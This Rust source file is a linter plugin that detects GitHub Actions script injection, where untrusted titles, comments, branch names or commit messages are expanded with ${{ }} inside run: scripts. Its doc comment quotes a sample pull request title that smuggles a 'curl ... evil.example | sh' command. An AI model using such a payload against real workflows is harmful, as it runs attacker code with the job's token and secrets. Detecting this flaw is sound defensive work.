//! # gha-script-injection
//!
//! `run:` scripts (and `actions/github-script` scripts) never expand
//! attacker-controlled event data with `${{ ... }}`: issue and pull request
//! titles and bodies, comments, review bodies, branch names, commit
//! messages and author names. Pass them through `env:` and use the shell
//! variable instead.
//!
//! ## Why it matters
//! `${{ }}` is substituted into the script text before the shell runs it.
//! A pull request titled `a"; curl -s https://evil.example | sh; echo "`
//! becomes code in your runner, with the job's token and secrets. Anyone who
//! can open an issue, comment or push a branch to a fork can do this. An
//! environment variable is data to the shell, never code.

use tenken_sdk::Node;
use tenken_sdk::github::{Step, action_steps, jobs};
use tenken_sdk::{Category, Document, Findings, NoSettings, PluginInfo, Pointer, Policy, Rule, Severity};

/// The plugin.
pub struct ScriptInjection;

/// Contexts whose values anyone who can open an issue, comment, or push to
/// a fork controls. Matched as prefixes of the expression's references.
const UNTRUSTED_CONTEXTS: &[&str] = &[
    "github.event.issue.title",
    "github.event.issue.body",
    "github.event.pull_request.title",
    "github.event.pull_request.body",
    "github.event.pull_request.head.ref",
    "github.event.pull_request.head.label",
    "github.event.pull_request.head.repo.default_branch",
    "github.event.comment.body",
    "github.event.review.body",
    "github.event.review_comment.body",
    "github.event.discussion.title",
    "github.event.discussion.body",
    "github.event.pages",
    "github.event.commits",
    "github.event.head_commit.message",
    "github.event.head_commit.author",
    "github.event.head_commit.committer",
    "github.event.workflow_run.head_branch",
    "github.event.workflow_run.head_commit",
    "github.event.workflow_run.display_title",
    "github.head_ref",
];

/// The untrusted contexts expanded by `${{ }}` expressions in a script.
fn untrusted_expansions(script: &str) -> Vec<String> {
    let mut found = Vec::new();
    let mut rest = script;
    while let Some(start) = rest.find("${{") {
        let after = &rest[start + 3..];
        let Some(end) = after.find("}}") else { break };
        let expression = after[..end].trim();
        for context in UNTRUSTED_CONTEXTS {
            if expression.contains(context) && !found.iter().any(|seen: &String| seen == context) {
                found.push((*context).to_owned());
            }
        }
        rest = &after[end + 2..];
    }
    found
}

impl Policy for ScriptInjection {
    type Settings = NoSettings;

    fn info() -> PluginInfo {
        tenken_sdk::plugin_info!(
            "GitHub Actions scripts do not expand untrusted input",
            "Titles, bodies, comments, branch names and commit messages reach scripts through \
             environment variables, never through ${{ }} inside the script text.",
        )
        .kinds(["github-workflow", "github-action"])
        .rules(vec![
                Rule::new(
                    "script-injection",
                    Category::Security,
                    Severity::High,
                    "Pass untrusted event data through env, not ${{ }} in scripts",
                )
                .rationale(
                    "${{ }} is pasted into the script before the shell runs it, so a crafted title, comment or \
                     branch name becomes code with the job's token and secrets.",
                )
                .fix(
                    "Move the value into an environment variable and quote it in the script:
```yaml
- name: Greet
  env:
    TITLE: ${{ github.event.pull_request.title }}
  run: echo \"Checking: $TITLE\"
```",
                )
                .references(&[
                    "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections",
                    "https://securitylab.github.com/resources/github-actions-untrusted-input/",
                ]),
            ])
    }

    fn check(document: &Document, _settings: &NoSettings, findings: &mut Findings) {
        let constrained = constrained_contexts(document.tree);
        for job in jobs(document.tree) {
            for step in job.steps() {
                check_step(&step, &constrained, findings);
            }
        }
        for step in action_steps(document.tree) {
            check_step(&step, &constrained, findings);
        }
    }
}

/// Untrusted contexts whose value the workflow's triggers pin to literals
/// its author wrote. A `workflow_run` trigger whose `branches` filter lists
/// branch names without wildcards runs only when `head_branch` is one of
/// them, so expanding it injects nothing.
fn constrained_contexts(workflow: Node<'_>) -> Vec<&'static str> {
    let Some(trigger) = workflow.get("on").and_then(|on| on.get("workflow_run")) else { return Vec::new() };
    let Some(branches) = trigger.get("branches").and_then(Node::as_array) else { return Vec::new() };
    let literal = |branch: Node<'_>| {
        branch.as_str().is_some_and(|name| {
            !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.' | '/'))
        })
    };
    if !branches.is_empty() && branches.iter().all(literal) && trigger.get("branches-ignore").is_none() {
        vec!["github.event.workflow_run.head_branch"]
    } else {
        Vec::new()
    }
}

/// `constrained`: contexts the triggers make safe (see
/// [`constrained_contexts`]).
fn check_step(step: &Step<'_>, constrained: &[&str], findings: &mut Findings) {
    let script_field: Option<(Pointer, &str)> = match (step.run(), step.uses()) {
        (Some(run), _) => Some((step.pointer.key("run"), run)),
        (None, Some(uses)) if uses.starts_with("actions/github-script@") => step
            .value
            .pointer("/with/script")
            .and_then(Node::as_str)
            .map(|script| (step.pointer.key("with").key("script"), script)),
        _ => None,
    };
    let Some((pointer, script)) = script_field else { return };
    let mut expanded = untrusted_expansions(script);
    expanded.retain(|context| !constrained.contains(&context.as_str()));
    if !expanded.is_empty() {
        findings.report(
            "script-injection",
            &pointer,
            format!("{} expands {} inside its script", step.describe(), expanded.join(", ")),
        );
    }
}

tenken_sdk::export_policy!(ScriptInjection);

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn finds_untrusted_contexts_inside_expressions_only() {
        assert_eq!(untrusted_expansions("echo \"${{ github.event.issue.title }}\""), vec!["github.event.issue.title"]);
        assert_eq!(
            untrusted_expansions("git checkout ${{ github.head_ref }} && echo ${{ github.event.commits[0].message }}"),
            vec!["github.head_ref", "github.event.commits"]
        );
        assert!(
            untrusted_expansions("echo \"$TITLE\" ${{ github.sha }} ${{ github.event.pull_request.number }}")
                .is_empty()
        );
        assert!(untrusted_expansions("echo github.event.issue.title").is_empty());
    }
}
